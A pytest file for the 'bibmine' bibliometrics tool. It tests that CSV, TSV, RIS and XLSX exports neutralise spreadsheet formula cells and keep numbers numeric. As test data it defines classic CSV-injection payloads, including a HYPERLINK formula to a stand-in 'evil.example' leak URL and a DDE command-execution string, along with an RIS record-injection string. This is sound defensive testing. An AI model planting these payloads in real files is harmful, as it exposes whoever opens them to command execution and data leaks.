"""Exports safe to open (issue 17, part 4): every CSV/TSV bibmine writes neutralises formula cells,
numbers stay numbers, matrix cells begin with no formula character, RIS keeps one record per work.

All records, labels and tables here are INVENTED; the payloads are the classic CSV-injection ones.
"""

from __future__ import annotations

import csv
import io
import shutil

import networkx as nx
import openpyxl
import pandas as pd
import pytest
from rich.console import Console
from typer.testing import CliRunner

from bibmine.cli import app
from bibmine.corpus.export import export
from bibmine.corpus.model import Author, Identifiers, Kind, Record, Text, Venue
from bibmine.corpus.store import Corpus
from bibmine.demo import demo_folder
from bibmine.maps.candidates import Candidate, write_candidates
from bibmine.maps.overlay import write_cluster_profile
from bibmine.maps.thesaurus import Thesaurus, read_thesaurus, write_thesaurus
from bibmine.maps.validate import errors, validate_files
from bibmine.maps.vosviewer import read_vosviewer, write_vosviewer
from bibmine.report.compare import write_review
from bibmine.rubrics.assignments import write_assignments
from bibmine.rubrics.files import classify_csv
from bibmine.safe_csv import neutralize_cell, restore_cell
from bibmine.sources.files import open_export
from bibmine.specialization.inputs import write_table
from bibmine.specialization.matrix import managerial_matrix
from bibmine.specialization.render import write_matrix
from bibmine.study.config import load_study
from bibmine.study.runner import run_study

LINK = '=HYPERLINK("http://evil.example/?leak","click")'
PAYLOADS = [LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
INJECTED_RIS = "Soil carbon\nER  - \n\nTY  - JOUR\nTI  - injected"


def rows_of(path, delimiter=","):
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def evaluated(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: a formula character first and not a plain decimal number."""
    out = []
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell)
                except ValueError:
                    out.append(cell)
    return out


# ---------------------------------------------------------------- the rule itself

def test_neutralize_cell_owasp_rule():
    assert [neutralize_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert neutralize_cell("\t=1+1") == "'\t=1+1"
    assert neutralize_cell("\r=1+1") == "'\r=1+1"
    assert neutralize_cell("\uff1d1+1") == "'\uff1d1+1"  # full-width equals sign
    # numbers and decimal texts stay what they are
    assert neutralize_cell(-1.5) == -1.5 and neutralize_cell(-3) == -3 and neutralize_cell(True) is True
    assert [neutralize_cell(t) for t in ("-1.5", "+2", "-3e-4", "-0.1234")] == ["-1.5", "+2", "-3e-4", "-0.1234"]
    # ordinary text, a dash inside, and an empty cell are left alone
    assert [neutralize_cell(t) for t in ("Soil - water", "a=b", "", None)] == ["Soil - water", "a=b", "", None]
    # not a number: neutralised
    assert [neutralize_cell(t) for t in ("-1.5 kg", "-inf", "-1,5")] == ["'-1.5 kg", "'-inf", "'-1,5"]
    assert restore_cell(neutralize_cell(LINK)) == LINK and restore_cell("'plain") == "'plain"


# ---------------------------------------------------------------- corpus export

def records() -> list[Record]:
    return [
        Record(source="invented", raw="r1", kind=Kind.ARTICLE, year=2021, titles=[Text(INJECTED_RIS, "en")],
               authors=[Author("Ivanov, I.I.")], ids=Identifiers(doi="10.5555/safe.1"),
               abstracts=[Text("Line one\r\nline two\u2028line three", "en")]),
        Record(source="invented", raw="r2", kind=Kind.ARTICLE, year=2020, titles=[Text(LINK, "en")],
               authors=[Author("-2+3"), Author("Petrova, A.S.")], ids=Identifiers(doi="10.5555/safe.2"),
               venue=Venue(name="@SUM(1)"), author_keywords=["+cmd", "-1.5"]),
    ]


def test_corpus_csv_export_neutralises_cells_and_keeps_numbers(tmp_path):
    path = tmp_path / "works.csv"
    assert export(records(), path, "csv") == 2
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[1]["title"] == "'" + LINK and rows[1]["title_en"] == "'" + LINK
    assert rows[1]["authors"] == "'-2+3; Petrova, A.S."
    assert rows[1]["venue"] == "'@SUM(1)"
    assert rows[1]["author_keywords"] == "'+cmd; -1.5"
    assert (rows[1]["year"], rows[1]["n_references"]) == ("2020", "0")
    assert rows[0]["title"] == INJECTED_RIS  # CSV quotes line breaks; the text is kept whole
    assert evaluated(rows_of(path)) == []


def test_ris_round_trip_keeps_the_record_count_and_the_title(tmp_path):
    ris = tmp_path / "works.ris"
    assert export(records(), ris, "ris") == 2
    text = ris.read_text(encoding="utf-8")
    lines = text.splitlines()
    assert [line for line in lines if line.startswith(("TY  -", "ER  -"))] == ["TY  - JOUR", "ER  - "] * 2
    assert "ID  - None" not in text
    assert "TI  - Soil carbon ER  - TY  - JOUR TI  - injected\n" in text
    assert "AB  - Line one line two line three\n" in text
    read = list(open_export(ris).records())
    assert [type(r).__name__ for r in read] == ["Record", "Record"]
    # the RIS reader folds runs of blanks; the words of the title are all there, in one record
    assert read[0].title == "Soil carbon ER - TY - JOUR TI - injected"
    assert read[1].title == LINK  # RIS is not a spreadsheet format: the text goes back as it was

    db = tmp_path / "again.sqlite"
    result = CliRunner().invoke(app, ["import", str(ris), "--corpus", str(db)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    with Corpus(db) as corpus:
        assert corpus.count() == 2
        titles = sorted(w.title for w in corpus.iter_works())
    assert titles == sorted([LINK, "Soil carbon ER - TY - JOUR TI - injected"])


# ---------------------------------------------------------------- rubrics and compare

def test_review_csv(tmp_path):
    path = write_review(tmp_path / "review.csv", {"r1": ["06"], "r2": ["34"]}, {"r1": ["20"], "r2": ["68"]},
                        {"r1": 0.9, "r2": 0.25}, {"r1": LINK, "r2": "-2+3"})
    rows = rows_of(path)
    assert rows[1][:5] == ["r1", "'" + LINK, "06", "20", "0.9000"]
    assert rows[2][:5] == ["r2", "'-2+3", "34", "68", "0.2500"]
    assert evaluated(rows) == []


def test_assignments_csv_keeps_negative_scores_numeric(tmp_path):
    path = tmp_path / "labels.csv"
    write_assignments({"@SUM(1)": {"=1+1": ["06"]}}, path, scores={("=1+1", "06"): -1.5})
    assert rows_of(path) == [["record_id", "rubric", "annotator", "score"], ["'=1+1", "06", "'@SUM(1)", "-1.5000"]]


class _StubModel:
    """Answers every text with rubric 06 at -1.5: the writer's own formatted score must stay a number."""

    def classify(self, texts, k, level, threshold):
        return [[("06", -1.5)] for _ in texts]


def test_classify_csv_neutralises_the_users_cells_and_keeps_numbers(tmp_path):
    src = tmp_path / "in.csv"
    src.write_text(f'title,amount\n"{LINK.replace(chr(34), chr(34) * 2)}",-1.5\n+cmd,42\n', encoding="utf-8")
    dst = tmp_path / "out.csv"
    classify_csv(_StubModel(), src, dst, ["title"], top_k=1)
    assert rows_of(dst) == [["title", "amount", "rubric_1", "score_1"],
                            ["'" + LINK, "-1.5", "06", "-1.5000"],
                            ["'+cmd", "42", "06", "-1.5000"]]


# ---------------------------------------------------------------- maps

def test_cluster_profile_and_candidates(tmp_path):
    rows = [{"cluster": 1, "items": 3, "top_items": "; ".join(PAYLOADS[:2]), "located_documents": 4,
             "leading_region": "RU-LIP", "leading_region_name": "@SUM(1)", "leading_share": 0.75,
             "shares": {"RU-LIP": 0.75}}]
    profile = rows_of(write_cluster_profile(rows, tmp_path / "clusters.csv", ["RU-LIP"]))
    assert profile[1] == ["1", "3", "'" + "; ".join(PAYLOADS[:2]), "4", "RU-LIP", "'@SUM(1)", "0.75", "0.75"]
    cands = rows_of(write_candidates([Candidate("-2+3", "=cmd", "fuzzy", -1.5, 2)], tmp_path / "candidates.csv"))
    assert cands[1] == ["'-2+3", "'=cmd", "fuzzy", "-1.5", "2", "0", "0", ""]
    assert evaluated(profile) == evaluated(cands) == []


def test_vosviewer_map_and_network_files(tmp_path):
    graph = nx.Graph()
    for n, label in enumerate(PAYLOADS, start=1):
        graph.add_node(n, label=label, x=-1.5 * n, y=0.5, cluster=1, score=-0.25)
    graph.add_edges_from([(1, 2), (2, 3), (3, 4)])
    map_path, network_path = write_vosviewer(graph, tmp_path / "map.txt")
    rows = rows_of(map_path, "\t")
    assert rows[0][:5] == ["id", "label", "x", "y", "cluster"]
    assert [r[1] for r in rows[1:]] == ["'" + LINK, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)"]
    assert [r[2] for r in rows[1:]] == ["-1.5", "-3", "-4.5", "-6"]  # coordinates stay numbers
    assert rows[1][-1] == "-0.25"
    assert evaluated(rows) == evaluated(rows_of(network_path, "\t")) == []
    assert errors(validate_files(map_path, network_path)) == []  # still a file VOSviewer reads
    back = read_vosviewer(map_path)
    assert sorted(back.nodes[n]["label"] for n in back) == sorted(PAYLOADS)  # bibmine's reader undoes the '


def test_vosviewer_string_ids_and_thesaurus(tmp_path):
    graph = nx.Graph([("-2+3", "@SUM(1)"), ("@SUM(1)", "soil")])
    map_path, network_path = write_vosviewer(graph, tmp_path / "map.txt")
    assert evaluated(rows_of(map_path, "\t")) == evaluated(rows_of(network_path, "\t")) == []
    assert errors(validate_files(map_path, network_path)) == []
    back = read_vosviewer(map_path, network_path)
    assert sorted(back.nodes[n]["label"] for n in back) == ["-2+3", "@SUM(1)", "soil"]
    assert back.number_of_edges() == 2

    path = write_thesaurus(Thesaurus({"=cmd": "+x"}), tmp_path / "thesaurus.txt")
    assert evaluated(rows_of(path, "\t")) == []
    assert read_thesaurus(path).apply("=cmd") == "+x"


# ---------------------------------------------------------------- specialization

@pytest.fixture
def coefficients() -> pd.DataFrame:
    return pd.DataFrame({"level": ["national"] * 3, "year": [2020] * 3, "category": ["C", "C", "C"],
                         "category_name": [LINK] * 3, "region": ["RU-A", "RU-B", "RU-C"],
                         "value": [0.5, 1.19, float("nan")], "reason": ["", "", "-2+3"]})


def test_matrix_cells_begin_with_no_formula_character(coefficients, tmp_path):
    from bibmine.specialization.concordance import read_concordance

    matrix = managerial_matrix(coefficients, read_concordance(), "national")
    assert [matrix.cell_text("C", r) for r in ("RU-A", "RU-B", "RU-C")] == [
        "▼ 0.50", "▲ 1.19", "? (undefined: -2+3)"]
    rows = rows_of(write_matrix(matrix, tmp_path / "m.csv"))
    assert rows[1] == ["C", "'" + LINK, "▼ 0.50", "▲ 1.19", "? (undefined: -2+3)"]
    assert evaluated(rows) == []
    assert set(matrix.to_long()["specialization"]) == {"▲", "▼", "?"}


def test_tidy_table_csv_keeps_negative_values(coefficients, tmp_path):
    table = coefficients.assign(value=[-1.5, 1.19, float("nan")])
    rows = rows_of(write_table(table, tmp_path / "coefficients.csv"))
    assert rows[1] == ["national", "2020", "C", "'" + LINK, "RU-A", "-1.5", ""]
    assert rows[3][-2:] == ["", "'-2+3"]
    assert evaluated(rows) == []


def test_xlsx_holds_formula_text_as_text(coefficients, tmp_path):
    """openpyxl stores a string that begins with = as a formula; bibmine's workbooks keep it as text."""
    from bibmine.specialization.concordance import read_concordance

    table = openpyxl.load_workbook(write_table(coefficients, tmp_path / "coefficients.xlsx")).active
    assert (table["D2"].value, table["D2"].data_type) == (LINK, "s")
    assert (table["F2"].value, table["F2"].data_type) == (0.5, "n")
    matrix = managerial_matrix(coefficients, read_concordance(), "national")
    sheet = openpyxl.load_workbook(write_matrix(matrix, tmp_path / "m.xlsx"))["matrix"]
    assert [(c.value, c.data_type) for c in sheet[3][:4]] == [("C", "s"), (LINK, "s"), ("▼ 0.50", "s"),
                                                              ("▲ 1.19", "s")]


# ---------------------------------------------------------------- a whole study

def injected_ris(n: int, title: str, author: str) -> str:
    """An INVENTED RIS record from Lipetsk whose keywords are all formulas."""
    return (f"TY  - JOUR\nTI  - {title}\nAU  - {author}\n"
            "AD  - Lipetsk State Technical University, Lipetsk, Russia\n"
            f"KW  - +cmd\nKW  - @SUM(1)\nKW  - -2+3\nPY  - {2021 + n}\nDO  - 10.5555/bibmine.inject.{n}\nER  -\n")


INJECTED_STUDY_FILE = injected_ris(1, LINK, "-2+3") + "\n" + injected_ris(2, "-2+3 soil carbon", "@Petrov, P.")


def test_no_file_of_a_study_holds_a_formula_cell(tmp_path):
    """The demo study plus two INVENTED records whose title, authors and keywords are formulas."""
    folder = tmp_path / "study"
    shutil.copytree(demo_folder(), folder)
    (folder / "cbe_injected.ris").write_text(INJECTED_STUDY_FILE, encoding="utf-8")
    with open(folder / "labels_demo.csv", "a", encoding="utf-8") as fh:
        fh.write("10.5555/bibmine.inject.1,89,analyst2\n")  # a disagreement: the title goes to review.csv
    study = load_study(folder / "study.toml")
    run_study(study, Console(width=120))
    out = study.out
    tables = [p for p in sorted(out.rglob("*")) if p.suffix in (".csv", ".txt") and p.is_file()
              and (p.suffix == ".csv" or "\t" in p.read_text(encoding="utf-8-sig").split("\n", 1)[0])]
    found = {str(p.relative_to(out)): evaluated(rows_of(p, "," if p.suffix == ".csv" else "\t")) for p in tables}
    assert {"compare/review.csv", "corpus/imports.csv", "maps/keywords/clusters.csv", "maps/keywords/map.txt",
            "maps/keywords/network.txt", "specialization/matrices/matrix_national.en.csv",
            "specialization/coefficients.csv", "rubrics/distribution.csv"} <= set(found)
    assert {name: cells for name, cells in found.items() if cells} == {}
    review = rows_of(out / "compare" / "review.csv")
    assert ["'" + LINK, "89"] in [row[1:3] for row in review]
    keywords = [row[1] for row in rows_of(out / "maps" / "keywords" / "map.txt", "\t")]
    # the keywords as the map normalises them (a bracket closed, a leading dash dropped), still neutralised
    assert "'+cmd" in keywords and "'@sum(1)" in keywords
    book = openpyxl.load_workbook(out / "workbook.xlsx")
    assert [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
